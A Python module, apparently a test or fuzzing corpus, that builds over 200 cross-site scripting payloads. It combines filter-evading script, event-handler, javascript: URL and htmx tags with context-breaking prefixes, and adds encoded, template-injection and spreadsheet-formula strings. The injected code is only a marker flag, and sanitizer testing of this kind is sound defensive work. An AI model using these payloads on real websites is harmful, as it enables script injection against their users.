"""Two hundred ways to smuggle a script into a text, made from their parts."""

from itertools import product

RUN = "window.__pwned=1"
TAGS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script\x0c>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    "<img/src=x/onerror={run}>",
    "<img src=`x` onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a href=javascript:{run}><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} autofocus onfocus={run} id=x>x</a>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<base href=javascript:{run}//>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import 'javascript:{run}';</style><style onload={run}></style>",
    "<template><script>{run}</script></template><noscript><p title='</noscript>{run}'>",
    "<div hx-on:load='{run}' hx-get=/ hx-trigger=load hx-vals='js:{run}'>x</div>",
    "<div hx-on::load='{run}' hx-trigger='load[{run}]' hx-get='/'>x</div>",
)
BEFORE = ("", '">', "'>", "</title></textarea></script>", "]]>-->", '" onerror={run} x="')
OTHERS = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{ 7*7 }}}}{{% set x = 1 %}}",
    "${{{run}}}",
    "';{run};//",
    '";{run};//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%253Cscript%253E{run}%253C/script%253E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    '=HYPERLINK("javascript:{run}")',
)
PAYLOADS = [
    *((before + tag).replace("{run}", RUN) for before, tag in product(BEFORE, TAGS)),
    *(one.format(run=RUN) for one in OTHERS),
]
